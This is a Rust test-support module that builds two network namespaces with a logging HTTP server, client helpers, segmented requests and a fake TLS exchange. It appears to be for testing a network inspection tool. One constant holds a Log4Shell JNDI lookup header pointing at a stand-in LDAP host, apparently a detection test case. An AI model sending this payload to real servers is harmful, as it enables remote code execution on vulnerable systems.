//! A web server with an access log and its clients, in two network namespaces.
#![allow(dead_code, clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use sakimori_sys::lab::{End, Lab};

/// A header with Log4Shell.
pub const ATTACK: &str = "X-Api-Version: ${jndi:ldap://203.0.113.66/a}\r\n";
/// How long a client waits for an answer.
const PATIENCE: Duration = Duration::from_secs(4);

/// Tells threads to stop at the end of its scope, also where a test fails.
pub struct Ended<'a>(pub &'a AtomicBool);

impl Drop for Ended<'_> {
    fn drop(&mut self) {
        self.0.store(true, Ordering::SeqCst);
    }
}

/// The namespaces `server` and `client`, joined.
pub struct Net {
    pub lab: Lab,
}

impl Net {
    pub fn new() -> Option<Self> {
        if !super::is_root() {
            return None;
        }
        let mut lab = Lab::new("skminline").unwrap();
        lab.add("server").unwrap();
        lab.add("client").unwrap();
        let one = End { namespace: "server", device: "s0", addresses: &["198.51.100.1/24", "2001:db8:51::1/64"] };
        let addresses = &["198.51.100.2/24", "198.51.100.3/24", "2001:db8:51::2/64"];
        lab.join(one, End { namespace: "client", device: "c0", addresses }).unwrap();
        Some(Self { lab })
    }

    /// Serves at an address of the server.
    pub fn serve(&self, address: &str) -> Server {
        let listener = self.lab.inside("server", || TcpListener::bind(address).unwrap()).unwrap();
        let log = Arc::new(Mutex::new(Vec::new()));
        let kept = log.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let log = kept.clone();
                std::thread::spawn(move || answer(stream, &log));
            }
        });
        Server { log }
    }

    pub fn connect(&self, address: &str) -> std::io::Result<TcpStream> {
        let address: SocketAddr = address.parse().unwrap();
        let stream = self.lab.inside("client", || TcpStream::connect_timeout(&address, PATIENCE)).unwrap()?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }
}

pub struct Server {
    log: Arc<Mutex<Vec<String>>>,
}

impl Server {
    /// The first lines of all requests that were whole.
    pub fn log(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }
}

fn answer(mut stream: TcpStream, log: &Mutex<Vec<String>>) {
    let mut bytes = Vec::new();
    let mut piece = [0; 4096];
    while let Ok(got @ 1..) = stream.read(&mut piece) {
        bytes.extend(&piece[..got]);
        while let Some(end) = bytes.windows(4).position(|four| four == b"\r\n\r\n") {
            let head: Vec<u8> = bytes.drain(..end + 4).collect();
            let line = String::from_utf8_lossy(&head).lines().next().unwrap_or_default().to_owned();
            log.lock().unwrap().push(line.clone());
            let size = line.split("/big?").nth(1).and_then(|rest| rest.split(' ').next()?.parse().ok()).unwrap_or(2);
            let mut sent = format!("HTTP/1.1 200 OK\r\nContent-Length: {size}\r\n\r\n").into_bytes();
            let mut left: usize = size;
            while left > 0 {
                let part = left.min(1 << 20);
                sent.resize(sent.len() + part, b'x');
                if stream.write_all(&sent).is_err() {
                    return;
                }
                sent.clear();
                left -= part;
            }
        }
    }
}

/// One request on a connection, and the answer.
pub fn ask(stream: &mut TcpStream, path: &str, headers: &str) -> std::io::Result<String> {
    stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: a.example\r\n{headers}\r\n").as_bytes())?;
    response(stream)
}

/// The same bytes in small segments.
pub fn in_pieces(stream: &mut TcpStream, bytes: &[u8], size: usize) -> std::io::Result<String> {
    for piece in bytes.chunks(size) {
        stream.write_all(piece)?;
    }
    response(stream)
}

fn response(stream: &mut TcpStream) -> std::io::Result<String> {
    let mut all = Vec::new();
    let mut piece = [0; 4096];
    loop {
        let got = stream.read(&mut piece)?;
        if got == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        all.extend(&piece[..got]);
        let text = String::from_utf8_lossy(&all);
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length: usize =
                head.split("Content-Length: ").nth(1).and_then(|rest| rest.lines().next()?.parse().ok()).unwrap();
            if body.len() >= length {
                return Ok(text.into_owned());
            }
        }
    }
}

/// Bytes of a body.
pub fn download(stream: &mut TcpStream, path: &str) -> std::io::Result<usize> {
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: a.example\r\n\r\n").as_bytes())?;
    let mut piece = vec![0; 1 << 20];
    let mut head = Vec::new();
    let end = loop {
        let got = stream.read(&mut piece)?;
        head.extend(&piece[..got]);
        if let Some(at) = head.windows(4).position(|four| four == b"\r\n\r\n") {
            break at + 4;
        }
    };
    let text = String::from_utf8_lossy(&head[..end]).into_owned();
    let length: usize =
        text.split("Content-Length: ").nth(1).and_then(|rest| rest.lines().next()?.parse().ok()).unwrap();
    let mut got = head.len() - end;
    while got < length {
        let more = stream.read(&mut piece)?;
        if more == 0 {
            break;
        }
        got += more;
    }
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(got)
}

/// A request on a connection of its own.
pub fn get(net: &Net, address: &str, path: &str, headers: &str) -> std::io::Result<String> {
    ask(&mut net.connect(address)?, path, headers)
}

/// The same, from another address of the client.
pub fn get_from(net: &Net, from: &str, to: &str, path: &str, headers: &str) -> std::io::Result<String> {
    use rustix::net::{AddressFamily, SocketType, bind, connect, socket};
    let here: SocketAddr = format!("{from}:0").parse().unwrap();
    let there: SocketAddr = to.parse().unwrap();
    let socket = net
        .lab
        .inside("client", || -> std::io::Result<_> {
            let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
            // Connecting gives up as reading does.
            rustix::net::sockopt::set_socket_timeout(&socket, rustix::net::sockopt::Timeout::Send, Some(PATIENCE))?;
            bind(&socket, &here)?;
            connect(&socket, &there)?;
            Ok(socket)
        })
        .unwrap()?;
    let mut stream = TcpStream::from(socket);
    stream.set_read_timeout(Some(PATIENCE))?;
    ask(&mut stream, path, headers)
}

/// A connection that looks like TLS: hellos of both sides, and then what nobody can read.
pub fn encrypted(net: &Net, address: &str) {
    let record =
        |kind: u8, body: &[u8]| [&[kind, 3, 3][..], &u16::try_from(body.len()).unwrap().to_be_bytes(), body].concat();
    let hello =
        |kind: u8, body: &[u8]| record(22, &[&[kind, 0, 0, u8::try_from(body.len()).unwrap()][..], body].concat());
    let secret = [record(20, &[1]), record(23, &[9; 40])].concat();
    let client = hello(1, &[&[3, 3][..], &[7; 32], &[0, 0, 2, 0xc0, 0x2f, 1, 0]].concat());
    let server = [hello(2, &[&[3, 3][..], &[8; 32], &[0, 0xc0, 0x2f, 0]].concat()), secret.clone()].concat();
    let listener = net.lab.inside("server", || TcpListener::bind(address).unwrap()).unwrap();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let (mut stream, _) = listener.accept().unwrap();
            stream.read_exact(&mut vec![0; client.len()]).unwrap();
            stream.write_all(&server).unwrap();
            // Until the client goes.
            let _ = stream.read_to_end(&mut Vec::new());
        });
        let mut stream = net.connect(address).unwrap();
        stream.write_all(&client).unwrap();
        stream.read_exact(&mut [0; 5]).unwrap();
        stream.write_all(&secret).unwrap();
        stream.write_all(&record(23, &[9; 40])).unwrap();
    });
}
